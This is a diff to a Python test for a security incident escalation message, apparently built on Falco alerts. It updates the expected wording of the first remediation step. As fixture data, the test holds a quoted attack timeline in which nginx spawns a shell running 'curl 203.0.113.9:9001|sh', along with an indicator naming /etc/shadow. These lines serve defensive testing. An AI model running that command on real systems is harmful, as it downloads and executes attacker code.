@@ -94,7 +94,9 @@ def test_an_escalation_says_what_happened_first_and_then_where_to_look(play: Pla
     assert fields["incident.url"] == f"https://falco.example/prod-eu/incidents/{note.incident}"
     assert fields["incident.cluster"] == "prod-eu"
     assert fields["incident.indicators"] == "203.0.113.9:9001, /etc/shadow"
-    assert fields["incident.next"].startswith("1. Isolate the workload: kubectl -n shop label pod app-7d9f")
+    assert fields["incident.next"].startswith(
+        "1. Isolate the workload (in a cluster, its network plugin has to enforce network policies): echo "
+    )
     assert "nginx > sh (sh -c 'curl 203.0.113.9:9001|sh')" in fields["incident.timeline"]
 
 
